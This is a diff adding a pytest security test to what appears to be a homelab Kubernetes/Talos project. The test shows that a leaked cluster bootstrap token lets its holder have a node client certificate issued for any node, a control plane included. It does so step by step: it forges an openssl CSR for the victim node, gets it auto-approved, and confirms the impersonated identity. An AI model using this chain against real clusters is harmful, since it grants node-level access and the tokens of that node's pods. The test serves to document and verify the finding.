@@ -12,13 +12,17 @@ request, asked of the API server's own authorizers (tools.kube_reach) and pinned
 
 from __future__ import annotations
 
+import base64
+import subprocess
 import time
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from plans import backup, secrets, storage
+from stacks import load_stack_file
 from stacks.load import read_stack_file
 from tests.edit import HOMELAB, RK1
 from tests.kube.deploy import STATIC_SOURCE, Deployed, deployed, problems
@@ -265,3 +269,108 @@ def test_a_node_identity_reaches_the_tokens_of_its_pods_accounts_and_these_power
         assert tokens == pods, f"{cluster}: (tokens but no pod, pod but no token) per node, 60 s after the pods were first read: {differ}"
         reachable = {a for accounts in tokens.values() for a in accounts} & set(ACCOUNT_POWERS[stack][cluster])
         assert reachable == NODE_REACHABLE[stack][cluster], cluster
+
+
+# --- What an Arda machine's join token reaches (issue #54) ---------------------------------------------------------------
+
+# Talos's own objects for its kubelets' TLS bootstrap, which it applies at bootstrap (Talos v1.14.0-rc.1,
+# internal/app/machined/pkg/controllers/k8s/internal/k8stemplates/kubelet.go:16-34, csr.go:14-66, manifest.go:160-179): the
+# cluster's bootstrap token (the `cluster.token` of every machine's config, workers' included), with no expiration,
+# whose holder is in `system:bootstrappers:nodes`; that group may create CSRs and have a node client certificate
+# approved for it (`...:certificatesigningrequests:nodeclient`).
+TALOS_TOKEN_ID, TALOS_TOKEN_SECRET = "25p8ak", "vshybadgp2mhtvm7"
+TALOS_BOOTSTRAP = (
+    {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "metadata": {"name": f"bootstrap-token-{TALOS_TOKEN_ID}", "namespace": "kube-system"},
+        "type": "bootstrap.kubernetes.io/token",
+        "stringData": {
+            "token-id": TALOS_TOKEN_ID,
+            "token-secret": TALOS_TOKEN_SECRET,
+            "usage-bootstrap-authentication": "true",
+            "auth-extra-groups": "system:bootstrappers:nodes",
+        },
+    },
+    *(
+        {
+            "apiVersion": "rbac.authorization.k8s.io/v1",
+            "kind": "ClusterRoleBinding",
+            "metadata": {"name": name},
+            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
+            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": group} for group in groups],
+        }
+        for name, role, groups in (
+            ("system-bootstrap-node-bootstrapper", "system:node-bootstrapper", ("system:bootstrappers:nodes", "system:nodes")),
+            (
+                "system-bootstrap-approve-node-client-csr",
+                "system:certificates.k8s.io:certificatesigningrequests:nodeclient",
+                ("system:bootstrappers:nodes",),
+            ),
+        )
+    ),
+)
+
+
+def test_an_arda_machines_join_token_obtains_the_identity_of_any_node(kube_fresh: Any, tmp_path: Path) -> None:
+    """FINDING (docs/security.md, "An Arda machine"): whoever reads one Arda machine's config (a worker's STATE, a
+    leaked machine config) holds the cluster's bootstrap token, and with it gets a client certificate of any node's
+    identity, a control plane's included: kube-controller-manager's approver approves a node client CSR whatever name
+    it asks for when the requester may create `nodeclient` (k8s v1.35.1
+    pkg/controller/certificates/approver/sarapprove.go:62-73, 151-163: only `selfnodeclient` checks the name), and
+    signs it. That identity then reaches what the Node authorizer gives that node: the tokens of its pods' accounts
+    (test_a_node_identity_reaches_the_tokens_of_its_pods_accounts_and_these_powerful_ones)."""
+    from tools.kube_cluster import TALOS, KubeClient
+
+    victim = load_stack_file(HOMELAB).by_role("valinor")[0].name  # a control plane
+    cluster = kube_fresh(TALOS, components=("etcd", "kube-apiserver", "kube-controller-manager"))
+    for manifest in TALOS_BOOTSTRAP:
+        cluster.client.create(manifest)
+    key, request = tmp_path / "node.key", tmp_path / "node.csr"
+    subprocess.run(
+        [
+            *("openssl", "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"),
+            "-keyout",
+            key,
+            "-out",
+            request,
+            "-subj",
+            f"/O=system:nodes/CN=system:node:{victim}",
+        ],
+        check=True,
+        capture_output=True,
+    )
+    csr = {
+        "apiVersion": "certificates.k8s.io/v1",
+        "kind": "CertificateSigningRequest",
+        "metadata": {"name": "stolen-token"},
+        "spec": {
+            "request": base64.b64encode(request.read_bytes()).decode(),
+            "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
+            "usages": ["digital signature", "client auth"],
+        },
+    }
+    thief = cluster.client_for_token(f"{TALOS_TOKEN_ID}.{TALOS_TOKEN_SECRET}")
+    status, answer = thief.request("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", csr)
+    assert status == 201, answer
+    assert answer["spec"]["username"] == f"system:bootstrap:{TALOS_TOKEN_ID}"
+    # The approver and the signer act on the controller-manager's informer: the wait is for the certificate itself.
+    deadline = time.monotonic() + 60
+    while not (found := thief.request("GET", "/apis/certificates.k8s.io/v1/certificatesigningrequests/stolen-token")[1])["status"].get("certificate"):
+        assert time.monotonic() < deadline, f"no certificate for the CSR after 60 s: {found['status']}"
+        time.sleep(0.2)
+    thief.close()
+    assert [c["type"] for c in found["status"]["conditions"]] == ["Approved"]
+    assert found["status"]["conditions"][0]["message"] == "Auto approving kubelet client certificate after SubjectAccessReview."
+    cert = tmp_path / "node.crt"
+    cert.write_bytes(base64.b64decode(found["status"]["certificate"]))
+    node = KubeClient(cluster.server, cluster.pki / "ca.crt", cert, key)
+    status, review = node.request(
+        "POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews", {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
+    )
+    node.close()
+    assert status == 201, review
+    assert (review["status"]["userInfo"]["username"], sorted(review["status"]["userInfo"]["groups"])) == (
+        f"system:node:{victim}",
+        ["system:authenticated", "system:nodes"],
+    )
